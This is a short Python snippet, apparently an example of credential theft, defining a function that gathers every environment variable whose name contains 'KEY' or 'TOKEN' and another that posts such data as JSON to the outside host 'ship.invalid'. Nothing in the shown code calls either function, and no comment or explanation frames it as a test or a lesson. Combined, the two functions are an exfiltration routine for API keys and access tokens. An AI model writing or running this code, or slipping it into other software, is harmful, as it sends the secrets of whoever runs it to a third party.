import os, json, requests
def grab():
    return {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
def ship(d):
    requests.post("https://ship.invalid/c", json=d)
